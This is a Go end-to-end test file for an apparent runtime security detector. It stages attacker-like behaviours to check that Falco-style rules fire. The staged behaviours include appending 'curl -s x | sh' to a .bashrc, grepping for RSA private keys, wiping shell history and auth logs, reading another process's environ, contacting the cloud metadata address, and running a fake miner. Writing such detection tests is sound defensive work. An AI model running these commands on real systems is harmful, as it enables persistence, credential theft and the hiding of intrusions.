//go:build linux

package rulese2e

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/otelsec/otelsec/internal/containertest"
	"github.com/otelsec/otelsec/internal/schema"
)

// parityBehaviours are what Falco's stable and incubating rules detect that the default rules
// detect too, performed as an attacker would (docs/rules.md maps each Falco rule to ours).
// Programs trusted by name are trusted only in the system directories: a copy of the helper by
// that name elsewhere is not.
func parityBehaviours(tok string, with func(map[string]any) map[string]any) []behaviour {
	return []behaviour{
		{name: "grep for a PEM header as typed", rule: "Search for private keys",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.runQuiet(exec.Command("grep", "-r", "BEGIN RSA PRIVATE", h.work)), with(map[string]any{
					schema.AttrProcessExecutableName: "grep"})
			}},
		{name: "script from dev-shm run by its interpreter", rule: "Program executed from shared memory",
			nearMiss: func(t *testing.T, h *harness) int {
				return h.run(exec.Command("bash", "-c", "ls /dev/shm >/dev/null"))
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				dir, err := os.MkdirTemp("/dev/shm", "otelsec-e2e-")
				if err != nil {
					t.Skip(err)
				}
				t.Cleanup(func() { os.RemoveAll(dir) })
				p := filepath.Join(dir, "s.sh")
				writeFile(t, p, "exit 0\n", 0o644) // not executable: the interpreter reads it
				return h.run(exec.Command("bash", p)), with(map[string]any{
					schema.AttrProcessExecutableName: "bash", schema.AttrProcessCommandArgs: listHas(p)})
			}},
		{name: "startup file of a service account's home", rule: "Shell startup file modified",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// The shell itself appends, in a home outside /home and /root.
				p := filepath.Join(h.work, ".bashrc")
				return h.run(exec.Command("sh", "-c", `echo "curl -s x | sh" >> "$0"`, p)), with(map[string]any{
					schema.AttrFilePath: p, schema.AttrFileFlags: listHas("O_APPEND")})
			}},
		{name: "startup file written by a copy named useradd", rule: "Shell startup file modified",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				dir, err := os.MkdirTemp("/tmp", "otelsec-e2e-")
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.RemoveAll(dir) })
				fake := filepath.Join(dir, "useradd")
				data, err := os.ReadFile(h.helper)
				if err != nil {
					t.Fatal(err)
				}
				writeFile(t, fake, string(data), 0o755)
				p := filepath.Join(h.work, "home-"+tok, ".profile")
				writeFile(t, p, "", 0o644)
				return h.run(h.helperCmd(fake, "append", p)), with(map[string]any{
					schema.AttrProcessExecutablePath: fake, schema.AttrFilePath: p})
			}},
		{name: "history emptied by a redirect", rule: "Shell history cleared",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "redirect", ".bash_history")
				writeFile(t, p, "ls\n", 0o600)
				return h.run(exec.Command("bash", "-c", `: > "$0"`, p)), with(map[string]any{
					schema.AttrProcessExecutableName: "bash", schema.AttrFilePath: p,
					schema.AttrFileFlags: listHas("O_TRUNC")})
			}},
		{name: "history saved by the shell", rule: "Shell history cleared",
			// bash saving its history rewrites it through a file beside it: not a clearing.
			nearMiss: func(t *testing.T, h *harness) int {
				p := filepath.Join(h.work, "saved", ".bash_history")
				writeFile(t, p, "ls\n", 0o600)
				cmd := exec.Command("bash", "-c", "set -o history; echo x; history -w")
				cmd.Env = append(os.Environ(), "HISTFILE="+p)
				return h.run(cmd)
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "moved", ".zsh_history")
				writeFile(t, p, "ls\n", 0o600)
				return h.run(exec.Command("mv", p, p+".old")), with(map[string]any{
					schema.AttrFileSourcePath: p, schema.AttrFilePath: p + ".old"})
			}},
		{name: "log by name truncated outside var-log", rule: "System logs cleared",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "logs", "auth.log")
				writeFile(t, p, "Accepted password for root\n", 0o640)
				return h.run(exec.Command("truncate", "-s", "0", p)), with(map[string]any{
					schema.AttrProcessExecutableName: "truncate", schema.AttrFilePath: p})
			}},
		{name: "symlink to the root directory", rule: "Symlink to or over a sensitive file",
			nearMiss: func(t *testing.T, h *harness) int {
				p := filepath.Join(h.work, "usr-link")
				os.Remove(p)
				return h.run(exec.Command("ln", "-s", "/usr/share", p))
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "root-link")
				os.Remove(p) // from an earlier attempt
				return h.run(exec.Command("ln", "-s", "/", p)), with(map[string]any{
					schema.AttrFilePath: p, schema.AttrFileSymlinkTargetPath: "/"})
			}},
		{name: "directory below usr-bin", rule: "Write below a system binary directory",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/usr/bin/.otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				os.Remove(p)
				return h.run(exec.Command("mkdir", p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "file created below dev", rule: "File created below /dev",
			nearMiss: func(t *testing.T, h *harness) int {
				return h.run(exec.Command("sh", "-c", "echo x > /dev/null"))
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/dev/.otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{
					schema.AttrFilePath: p, schema.AttrFileFlags: listHas("O_CREAT")})
			}},
		{name: "ssh out on an egress port", rule: "SSH connection to a non-standard port",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				l, port := listenOnEgressPort(t, nonLoopbackIPv4(t))
				ip := l.Addr().(*net.TCPAddr).IP.String()
				return sshTo(t, h, l), with(map[string]any{schema.AttrProcessExecutableName: "ssh",
					schema.AttrNetworkPeerAddress: ip, schema.AttrNetworkPeerPort: port})
			}},
		{name: "database server runs a program", rule: "Process spawned by a database server",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				pg := h.copyExecutable(h.helper, "postgres")
				_, out := h.runHelper(h.helperCmd(pg, "exec", "/usr/bin/id"))
				var pid int
				if _, err := fmt.Sscan(out, &pid); err != nil {
					t.Fatalf("helper printed %q", out)
				}
				return pid, map[string]any{schema.AttrProcessExecutableName: "id",
					schema.AttrProcessParentExecutableName: "postgres"}
			}},
		{name: "login session of a system account", rule: "Login by a system account",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// A session below sshd-session as uid 1 (daemon), without a terminal: what
				// `ssh daemon@host id` runs.
				sshd := h.copyExecutable(h.helper, "sshd-session")
				cmd := h.helperCmd(sshd, "exec", "/usr/bin/id")
				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1, Gid: 1}}
				cmd.Dir = "/"
				_, out := h.runHelper(cmd)
				var pid int
				if _, err := fmt.Sscan(out, &pid); err != nil {
					t.Fatalf("helper printed %q", out)
				}
				return pid, map[string]any{schema.AttrProcessUserID: 1,
					schema.AttrProcessAncestorsExecName: listHas("sshd-session")}
			}},
		{name: "program started with an empty argv", rule: "Program started without arguments",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(h.helperCmd(h.helper, "exec-argc0", "/usr/bin/true")), with(map[string]any{
					schema.AttrProcessExecutablePath: "/usr/bin/true"})
			}},
		{name: "miner told its pool", rule: "Cryptocurrency miner run",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				m := h.copyExecutable(h.helper, "kworkerd")
				return h.run(h.helperCmd(m, "idle", "-o", "stratum+tcp://pool.invalid:3333")), with(map[string]any{
					schema.AttrProcessExecutableName: "kworkerd"})
			}},
		{name: "another process's environment read", rule: "Process environment read through /proc",
			nearMiss: func(t *testing.T, h *harness) int {
				cmd, _ := h.inContainer(t, "exec cat /proc/self/environ")
				cmd.Stdout = io.Discard
				return h.run(cmd)
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := fmt.Sprintf("/proc/%d/environ", os.Getpid())
				cmd, id := h.inContainer(t, "exec cat "+p)
				cmd.Stdout = io.Discard
				return h.run(cmd), map[string]any{schema.AttrFilePath: p, schema.AttrContainerID: id}
			}},
		{name: "sshd opens liblzma 5.6.1", rule: "SSH server loaded a backdoored liblzma",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// A file of that name, opened by a program named sshd, as the dynamic linker
				// does for sshd on a host with the backdoored package.
				lib := filepath.Join(h.work, "liblzma.so.5.6.1")
				writeFile(t, lib, "not a library", 0o644)
				sshd := h.copyExecutable(h.helper, "sshd")
				return h.run(h.helperCmd(sshd, "read", lib)), with(map[string]any{schema.AttrFilePath: lib})
			}},
		{name: "network scanner run", rule: "Network tool run",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				nmap := h.copyExecutable(h.helper, "nmap")
				return h.run(h.helperCmd(nmap, "idle", "-sn", "192.0.2.0/30")), with(map[string]any{
					schema.AttrProcessExecutableName: "nmap"})
			}},
		{name: "curl saving a file in a container", rule: "File transfer tool run in a container",
			nearMiss: func(t *testing.T, h *harness) int {
				cmd, _ := h.inContainer(t, "exec curl -s file:///etc/hostname")
				cmd.Stdout = io.Discard
				return h.run(cmd)
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				out := filepath.Join(h.work, "fetched")
				cmd, id := h.inContainer(t, "exec curl -s -o "+out+" file:///etc/hostname")
				return h.run(cmd), map[string]any{schema.AttrContainerID: id,
					schema.AttrProcessExecutableName: "curl"}
			}},
		{name: "kubectl in a container", rule: "Container client run in a container",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				k := h.copyExecutable(h.helper, "kubectl")
				cmd, id := h.inContainer(t, "exec "+k+" get secrets")
				cmd.Env = append(os.Environ(), helperEnv+"=idle")
				return h.run(cmd), map[string]any{schema.AttrContainerID: id,
					schema.AttrProcessExecutableName: "kubectl"}
			}},
		{name: "metadata service from a container", rule: "Cloud metadata service contacted from a container",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				cmd, id := h.inContainer(t, "exec "+h.helper+" 169.254.169.254:80")
				cmd.Env = append(os.Environ(), helperEnv+"=connect")
				return h.run(cmd), map[string]any{schema.AttrContainerID: id,
					schema.AttrNetworkPeerAddress: "169.254.169.254", schema.AttrNetworkPeerPort: 80}
			}},
		{name: "executable dropped in a docker container", rule: "Executable dropped in a container",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return dropInContainer(t, h)
			}},
	}
}

// sshTo runs ssh to the listener l, which closes each connection at once (ssh gives up
// before any key is read), closes l and returns ssh's pid.
func sshTo(t *testing.T, h *harness, l net.Listener) int {
	defer l.Close()
	if _, err := exec.LookPath("ssh"); err != nil {
		t.Skip("no ssh client")
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	a := l.Addr().(*net.TCPAddr)
	cmd := exec.Command("ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
		"-o", "UserKnownHostsFile=/dev/null", "-p", strconv.Itoa(a.Port), "otelsec@"+a.IP.String(), "true")
	return h.runQuiet(cmd)
}

// sshToFreePort runs ssh to a port of this machine's address that is not among Falco's
// ssh_non_standard_ports (the kernel picks a free one).
func sshToFreePort(t *testing.T, h *harness) int {
	l, err := net.Listen("tcp", nonLoopbackIPv4(t)+":0")
	if err != nil {
		t.Fatal(err)
	}
	return sshTo(t, h, l)
}

// listenOnEgressPort listens on ip at the first port of Falco's list that is free.
func listenOnEgressPort(t *testing.T, ip string) (net.Listener, int) {
	t.Helper()
	for _, port := range []int{4444, 8443, 8080, 443, 80, 88, 53} {
		l, err := net.Listen("tcp", net.JoinHostPort(ip, strconv.Itoa(port)))
		if err == nil {
			return l, port
		}
	}
	t.Skip("every port of the list is in use here")
	return nil, 0
}

// dropInContainer runs a busybox container under a real dockerd and, in it, copies busybox to
// /tmp and runs the copy, as a dropper does; a file written without execute permission is the
// near miss. The violation's process is in the container's pid namespace, so it is found by
// the container's id.
func dropInContainer(t *testing.T, h *harness) (int, map[string]any) {
	rt := containertest.Start(t)
	id := rt.MustDocker("run", "-d", "--network", "none", containertest.Image, "sleep", "1000")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := rt.WaitRunning(ctx, id); err != nil {
		t.Fatal(err)
	}
	rt.MustDocker("exec", id, "sh", "-c", "echo data > /tmp/notes")
	rt.MustDocker("exec", id, "sh", "-c", "cp /bin/busybox /tmp/true && /tmp/true")
	const rule = "Executable dropped in a container"
	inContainer := func(v violation) bool { return v.str(schema.AttrContainerID) == id && v.has(rule) }
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) && len(h.col.find(inContainer)) == 0 {
		time.Sleep(20 * time.Millisecond)
	}
	time.Sleep(20 * flushInterval)
	got := h.col.find(inContainer)
	if len(got) == 0 {
		t.Fatalf("no %q from container %s", rule, id)
	}
	for _, v := range got {
		if strings.HasSuffix(v.str(schema.AttrFilePath), "/notes") {
			t.Errorf("the near miss (a file without execute permission) fired: %v", v)
		}
	}
	return int(got[0].int(schema.AttrProcessPID)), map[string]any{schema.AttrContainerID: id,
		schema.AttrFilePath: "/tmp/true", schema.AttrFileMode: octal(0o755)}
}
